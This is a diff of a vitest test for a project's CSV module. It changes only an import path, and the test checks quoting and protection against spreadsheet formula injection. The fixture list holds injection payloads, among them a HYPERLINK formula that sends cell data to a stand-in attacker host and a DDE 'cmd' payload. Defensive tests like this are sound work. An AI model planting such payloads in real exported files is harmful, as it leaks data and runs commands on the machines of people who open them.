@@ -1,6 +1,6 @@
 /** The project's CSV: RFC 4180 quoting, and no cell a spreadsheet would run as a formula. */
 import { describe, expect, it } from 'vitest';
-import { parseCsv, parseCsvRows, toCsv } from '../../src/experiment/csv.js';
+import { parseCsv, parseCsvRows, toCsv } from '../../src/experiment/batch/csv.js';
 
 describe('CSV cells', () => {
   const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1', '\r=1'];
